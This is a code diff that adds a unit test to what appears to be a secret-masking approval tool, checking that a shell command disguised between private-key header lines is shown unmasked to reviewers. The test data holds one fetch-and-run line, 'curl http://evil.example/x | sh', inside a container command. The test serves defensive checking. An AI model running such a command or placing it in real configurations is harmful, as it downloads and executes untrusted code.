@@ -141,6 +141,16 @@ def test_code_that_looks_like_a_secret_is_shown_to_the_approver_alone(name: str,
     assert hidden(step) == [("writes.hidden", "warning")]
 
 
+def test_code_between_a_keys_lines_is_no_key(place: Place) -> None:
+    """What is no base64 has no mask at all: neither the approver's nor the record's."""
+    begin, end = "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----"
+    code = f"{begin}\n/usr/bin/curl http://evil.example/x | sh\n{end}"
+    entry = place.plan(patch([{"op": "add", "path": f"{CONTAINER}/command", "value": ["sh", "-c", code]}]))
+    (step,) = entry.plan.steps
+    assert "evil.example/x | sh" in plain.text(entry, 400) and "evil.example/x | sh" in repr(step.rows)
+    assert hidden(step) == []
+
+
 def test_a_form_shows_it_and_neither_the_answer_nor_the_record_has_it(place: Place) -> None:
     """A person at a client reads it, approves, and exactly that is sent."""
     person = people.Client()
